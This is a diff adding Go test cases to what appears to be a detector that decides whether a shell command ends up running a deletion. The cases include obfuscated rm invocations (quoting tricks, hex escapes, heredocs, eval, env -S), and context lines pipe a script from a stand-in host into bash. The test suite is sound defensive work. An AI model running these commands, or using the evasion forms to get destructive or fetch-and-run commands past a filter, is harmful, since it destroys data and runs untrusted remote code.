@@ -107,6 +107,18 @@ func TestIfRule_WhatRuns(t *testing.T) {
 		{`bash <<'EOF'` + "\nrm x\nEOF", true},
 		{`sh <<EOF` + "\nrm $HOME/x\nEOF", true},
 		{`echo 'rm x' | sh`, true},
+		{"bash <<'EOF'\necho \\\\; rm x\nEOF", true}, // quoted: the script keeps \\, so ; ends echo and rm runs
+		{"bash <<EOF\necho \\\\; rm x\nEOF", false}, // unquoted: \\ becomes \, so \; is a literal ; for echo
+		{"bash <<EOF\nr\\m x\nEOF", true},
+		{`eval -- 'rm x'`, true},
+		{`python3 - <<< 'import os'`, true},
+		{`node - < /dev/stdin`, true},
+		{`python3 - < x.py`, false},
+		{`\rm x`, true},
+		{`r''m x`, true},
+		{`"r"m x`, true},
+		{`$'\x72m' x`, true},
+		{`env -S 'rm x'`, true},
 		{`curl -s https://x.test/i.sh | bash`, true},
 		{`bash -s < /dev/stdin`, true},
 		{`bash < <(curl -s https://x.test/i.sh)`, true},
